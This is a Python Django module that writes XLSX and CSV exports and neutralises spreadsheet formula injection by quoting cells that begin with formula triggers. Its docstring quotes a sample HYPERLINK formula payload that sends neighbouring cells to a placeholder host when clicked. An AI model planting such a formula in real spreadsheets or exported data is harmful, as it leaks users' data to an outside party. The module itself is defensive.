"""One writer for every XLSX and CSV export: each domain declares its columns with French headers.

Every cell leaves through `safe_value` (OWASP "CSV injection"): a text starting with = + - @, a tab or
a carriage return would be run as a formula by a spreadsheet (`=HYPERLINK("http://x/?"&A1;"clic")` as
a person's name sends the neighbouring cells away on a click). Such a text is prefixed with a single
quote, and in XLSX it is stored as a text cell, never a formula. Numbers, dates and empty cells are
left as they are: a negative number stays a number. A workbook built elsewhere (the import templates)
goes through `neutralise_workbook` or `neutralised_xlsx` before it is served.
"""

import csv
import io
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import TYPE_FORMULA, TYPE_STRING
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What makes a spreadsheet read a text as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_value(value):
    """The value as a spreadsheet must receive it: a text a spreadsheet would evaluate gets a leading
    single quote; anything else (numbers, dates, None, other texts) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _store_safely(cell, value) -> None:
    cell.value = safe_value(value)
    if isinstance(cell.value, str):
        # openpyxl turns any text starting with "=" into a formula: force a text cell.
        cell.data_type = TYPE_STRING


def neutralise_workbook(workbook: Workbook) -> Workbook:
    """Every cell of every sheet made safe in place, including formulas already there."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == TYPE_FORMULA or isinstance(cell.value, str):
                    _store_safely(cell, str(cell.value))
    return workbook


def neutralised_xlsx(content: bytes) -> bytes:
    """An XLSX file built elsewhere, every cell made safe (see `neutralise_workbook`)."""
    workbook = neutralise_workbook(load_workbook(io.BytesIO(content)))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@dataclass(frozen=True)
class Column:
    header: str
    value: Callable[[Any], Any]
    number_format: str | None = None  # e.g. "0.00", "0.0%", "DD/MM/YYYY"


def _append(sheet, values) -> None:
    # Once quoted, no text starts with "=": openpyxl stores every one of them as a text cell.
    sheet.append([safe_value(value) for value in values])


def build_workbook(rows: Iterable[Any], columns: list[Column], *, title: str, preamble: list[str] = ()) -> Workbook:
    workbook = Workbook(write_only=False)
    sheet = workbook.active
    sheet.title = title[:31]
    for line in preamble:
        _append(sheet, [line])
    if preamble:
        sheet.append([])
    _append(sheet, [c.header for c in columns])
    header_row = sheet.max_row
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
    for row in rows:
        _append(sheet, [c.value(row) for c in columns])
        for index, column in enumerate(columns, start=1):
            if column.number_format:
                sheet.cell(row=sheet.max_row, column=index).number_format = column.number_format
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = max(12, min(60, len(column.header) + 4))
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
    return workbook


def xlsx_file_response(content: bytes, *, filename: str) -> HttpResponse:
    """An XLSX file built elsewhere (an import template), neutralised, as a download."""
    response = HttpResponse(neutralised_xlsx(content), content_type=XLSX_MIME)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_response(rows, columns, *, filename: str, title: str, preamble: list[str] = ()) -> HttpResponse:
    buffer = io.BytesIO()
    build_workbook(rows, columns, title=title, preamble=preamble).save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_MIME)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


def csv_response(rows, columns, *, filename: str) -> HttpResponse:
    # Semicolons and a UTF-8 BOM, so that French Excel opens the file as it is.
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    response.write("\ufeff")
    writer = csv.writer(response, delimiter=";")
    writer.writerow([safe_value(c.header) for c in columns])
    for row in rows:
        writer.writerow([safe_value(c.value(row)) for c in columns])
    return response
